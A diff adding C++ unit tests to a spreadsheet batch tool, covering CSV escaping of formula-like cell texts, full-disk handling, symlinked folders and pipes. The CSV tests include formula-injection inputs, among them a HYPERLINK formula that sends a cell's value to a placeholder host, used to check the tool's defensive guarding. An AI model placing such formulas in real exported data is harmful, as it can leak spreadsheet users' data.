@@ -5,6 +5,8 @@
 
 #include <gtest/gtest.h>
 
+#include <sys/stat.h>
+
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
@@ -18,6 +20,7 @@
 #include "XlsSnapshot.h"
 #include "batch/FolderScan.h"
 #include "cli/RunReport.h"
+#include "extract/CsvWriter.h"
 
 namespace sheetwise::batch {
 namespace {
@@ -343,9 +346,172 @@ TEST(RunReport, AFolderThatCannotBeListedSaysWhy) {
   fs::create_directory(shut);
   fs::permissions(shut, fs::perms::owner_write);
   fs::permissions(dir.path(), fs::perms::others_exec | fs::perms::others_read, fs::perm_options::add);
-  const std::string said = test::AsUnprivileged([&] { return PassedOver({dir / "", shut + "/"}).at(0).reason; });
+  const std::string said = test::AsUnprivileged([&] { return ScanFolderTree(dir / "").skipped.at(0).reason; });
   fs::permissions(shut, fs::perms::owner_all);
   EXPECT_EQ(said, "skipped: no permission to open the folder " + shut);
+}
+
+// A text a spreadsheet would run as a formula gets an apostrophe, a number does not; raw texts stay exact.
+TEST(CsvTexts, FormulaLikeTextsAreGuardedUnlessRaw) {
+  const std::tuple<std::string, std::string, std::string> cases[] = {
+      // text, guarded field, raw field
+      {"=HYPERLINK(\"http://x?\"&A2,\"click\")", "\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"click\"\")\"",
+       "\"=HYPERLINK(\"\"http://x?\"\"&A2,\"\"click\"\")\""},
+      {"+cmd", "'+cmd", "+cmd"},
+      {"-1+2", "'-1+2", "-1+2"},
+      {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
+      {"\tx", "'\tx", "\tx"},
+      {"\rx", "\"'\rx\"", "\"\rx\""},
+      {"-3.5", "-3.5", "-3.5"},
+      {"+1e5", "+1e5", "+1e5"},
+      {"-", "'-", "-"},
+      {"a=b", "a=b", "a=b"},
+      {"", "", ""},
+  };
+  for (const auto& [text, guarded, raw] : cases) {
+    EXPECT_EQ(extract::CsvField(text), guarded) << "case " << text;
+    EXPECT_EQ(extract::CsvField(text, extract::CsvTexts::Raw), raw) << "case " << text;
+  }
+  const ReportRow row{"/d/=a.xls", ReportOutcome::Failed, "", "-x", {"=B2"}, 0};
+  EXPECT_EQ(CsvReportRow(row), "/d/=a.xls,failed,,'-x,'=B2,0.00\r\n");
+  EXPECT_EQ(CsvReportRow(row, extract::CsvTexts::Raw), "/d/=a.xls,failed,,-x,=B2,0.00\r\n");
+}
+
+// Cell texts read out of a real workbook, through the command, guarded and raw.
+TEST(CsvTexts, TheExtractionCsvGuardsCellTexts) {
+  test::TempDir dir;
+  test::WriteTableWorkbook(dir.path() / "src/a.xls", "A,B,C,D\n-cmd,@SUM(1),+a,-2.5\n");
+  std::ofstream(dir / "cells.txt") << "{小偷}2|A|\n{小偷}2|B|\n{小偷}2|C|\n{小偷}2|D|\n";
+  const std::string book = dir / "src/a.xls";
+  for (const bool raw : {false, true}) {
+    Lines args{"--source", dir / "src", "--rules", dir / "cells.txt", "--extract", "--log", dir / "l.log"};
+    if (raw) args.push_back("--csv-raw");
+    const auto run = RunBatch(args);
+    EXPECT_EQ(run.status, 0) << run.err;
+    const std::string quote = raw ? "" : "'";
+    EXPECT_EQ(run.out, "file,row,column,text\r\n" + book + ",2,1," + quote + "-cmd\r\n" + book + ",2,2," + quote +
+                           "@SUM(1)\r\n" + book + ",2,3," + quote + "+a\r\n" + book + ",2,4,-2.5\r\n");
+  }
+}
+
+// A small disk that fills while the run writes its report or its CSV: the run
+// stops with exit status 1, naming the file and the cause; what was written
+// stays, ending with the last whole row.
+TEST(RunReport, AnOutputOnAFullDiskStopsTheRunSayingWhy) {
+  test::TempDir dir;
+  const std::string full = dir / "full";
+  fs::create_directory(full);
+  const FolderState mounted("mount -t tmpfs -o size=8k tmpfs '" + full + "'", "umount '" + full + "'");
+  if (!mounted.made()) GTEST_SKIP() << "a small disk cannot be mounted here";
+  // The disk filled, then one page of it freed.
+  std::ofstream filler(full + "/filler", std::ios::binary);
+  while (filler << std::string(4096, 'f') << std::flush) {
+  }
+  filler.close();
+  fs::resize_file(full + "/filler", fs::file_size(full + "/filler") - 4096);
+  // Rows of over 1200 bytes: three of them fill the page that is left.
+  fs::path folder = dir.path() / "src";
+  for (const char c : {'a', 'b', 'c', 'd', 'e'}) folder /= std::string(240, c);
+  fs::create_directories(dir / "out");
+  for (int i = 0; i < 6; ++i) dir.copyFixture("sheets.xls", (folder / ("w" + std::to_string(i) + ".xls")).string());
+  std::ofstream(dir / "cells.txt") << "{小偷}1|A|\n{小偷}2|A|\n";
+  const struct {
+    std::string option, file, what;
+  } cases[] = {{"--report", full + "/r.csv", "the report"}, {"--output", full + "/cells.csv", "the extraction CSV"}};
+  const std::string stopped = "The run stopped: the workbooks not yet processed were not touched.";
+  for (const auto& c : cases) {
+    const bool report = c.option == "--report";
+    const auto run = RunBatch({"--source", dir / "src", "--rules", dir / "cells.txt", "--extract", "--log",
+                               dir / "l.log", "--report", report ? c.file : dir / "r.csv", "--output",
+                               report ? dir / "cells.csv" : c.file});
+    EXPECT_EQ(run.status, 1) << "case " << c.what << ": " << run.err;
+    EXPECT_NE(run.err.find(c.what + " cannot be written: the disk is full: no room to write " + c.file),
+              std::string::npos)
+        << "case " << c.what << ": " << run.err;
+    EXPECT_NE(run.err.find(stopped), std::string::npos) << "case " << c.what << ": " << run.err;
+    const std::string written = ReadFile(c.file);
+    EXPECT_GT(SplitLines(written).size(), 1u) << "case " << c.what;
+    EXPECT_TRUE(written.ends_with("\r\n")) << "case " << c.what;
+    fs::remove(c.file);
+  }
+  // The workbook whose cells the CSV could not take failed; those after it
+  // failed too (when already in progress) or were not started.
+  const Lines report = SplitLines(ReadFile(dir / "r.csv"));
+  ASSERT_EQ(report.size(), 7u);
+  EXPECT_NE(report[1].find(",processed,"), std::string::npos) << report[1];
+  EXPECT_NE(report[2].find(",failed,,the extraction CSV cannot be written: the disk is full"), std::string::npos)
+      << report[2];
+  for (size_t i = 3; i < report.size(); ++i) {
+    const bool failed = report[i].find(",failed,,the extraction CSV cannot be written") != std::string::npos;
+    const bool notStarted = report[i].find(",not started,,the extraction CSV cannot be written") != std::string::npos;
+    EXPECT_TRUE(failed || notStarted) << report[i];
+  }
+
+  // The error log on the disk, now full: two vetoed workbooks (no failure) are
+  // processed, the user is told once, and the run ends with 1.
+  std::ofstream rest(full + "/rest", std::ios::binary);
+  while (rest << std::string(4096, 'r') << std::flush) {
+  }
+  dir.copyFixture("sheets.xls", "vetoed/a.xls");
+  dir.copyFixture("sheets.xls", "vetoed/b.xls");
+  std::ofstream(dir / "empty.txt") << "\n";
+  const auto run = RunBatch({"--source", dir / "vetoed", "--rules", dir / "empty.txt", "--save", dir / "out",
+                             "--veto-row", "1", "--veto-col", "A", "--veto-value", "not there", "--log",
+                             full + "/l.log", "--quiet"});
+  EXPECT_NE(run.err.find("2 processed (2 vetoed), 0 failed"), std::string::npos) << run.err;
+  EXPECT_EQ(run.status, 1) << run.err;
+  const std::string told = "the error log cannot be written: the disk is full: no room to write " + full + "/l.log";
+  EXPECT_NE(run.err.find(told), std::string::npos) << run.err;
+  EXPECT_EQ(run.err.find(told), run.err.rfind(told)) << run.err;
+}
+
+// Eight folders that each link to all the others, a pipe named like a workbook and
+// a name holding a newline: each workbook once, the pipe skipped with its reason,
+// names shown escaped. A mirrored folder is made only for a file written into it.
+TEST(BatchRun, LinkedFoldersAPipeAndOddNamesEachOnceWithReasons) {
+  test::TempDir dir;
+  for (int i = 1; i <= 8; ++i) {
+    const std::string folder = "src/f" + std::to_string(i);
+    dir.copyFixture("sheets.xls", folder + "/b.xls");
+    for (int j = 1; j <= 8; ++j) {
+      if (j != i) fs::create_directory_symlink("../f" + std::to_string(j), dir / (folder + "/to" + std::to_string(j)));
+    }
+  }
+  dir.copyFixture("sheets.xls", "src/new\nline/a.xls");
+  fs::create_directories(dir / "src/bad");
+  std::ofstream(dir / "src/bad/text.xls") << "just text\n";
+  ASSERT_EQ(::mkfifo((dir / "src/x.xls").c_str(), 0644), 0);
+  fs::create_directory(dir / "out");
+  std::ofstream(dir / "empty.txt") << "\n";
+  const Lines common{"--source", dir / "src", "--rules", dir / "empty.txt", "--save", dir / "out", "--log", dir / "l.log"};
+  const std::string pipe = "skipped: " + dir / "src/x.xls" + " is a named pipe (FIFO), not a workbook file";
+
+  Lines dryArgs = common;
+  dryArgs.push_back("--dry-run");
+  const auto dry = RunBatch(dryArgs);
+  const Lines planned = SplitLines(dry.out);
+  ASSERT_EQ(planned.size(), 10u) << dry.out;
+  EXPECT_EQ(planned[0], dir / "src/bad/text.xls\t" + dir / "out/bad/text.xls");
+  EXPECT_EQ(planned[1], dir / "src/f1/b.xls\t" + dir / "out/f1/b.xls");
+  EXPECT_EQ(planned[9], dir / "src/new\\nline/a.xls\t" + dir / "out/new\\nline/a.xls");
+  EXPECT_NE(dry.err.find(pipe), std::string::npos) << dry.err;
+
+  Lines args = common;
+  args.insert(args.end(), {"--report", dir / "r.csv"});
+  const auto run = RunBatch(args);
+  EXPECT_EQ(run.status, 1) << run.err;
+  EXPECT_NE(run.err.find("9 processed (0 vetoed), 1 failed, 0 not started"), std::string::npos) << run.err;
+  EXPECT_NE(run.err.find(", 1 skipped"), std::string::npos) << run.err;
+  const Lines report = SplitLines(ReadFile(dir / "r.csv"));
+  ASSERT_EQ(report.size(), 14u) << ReadFile(dir / "r.csv");  // the newline in a name, twice in its row
+  EXPECT_EQ(report[1], dir / "src/x.xls,skipped,,\"" + pipe + "\",,0.00\r");
+  EXPECT_TRUE(report[2].starts_with(dir / "src/bad/text.xls,failed,,")) << report[2];
+  for (int i = 1; i <= 8; ++i) {
+    const std::string folder = "/f" + std::to_string(i) + "/b.xls";
+    EXPECT_TRUE(report[2 + i].starts_with(dir / ("src" + folder) + ",processed," + dir / ("out" + folder)));
+  }
+  EXPECT_FALSE(fs::exists(dir / "out/bad"));
+  EXPECT_TRUE(fs::exists(dir / "out/new\nline/a.xls"));
 }
 
 }  // namespace
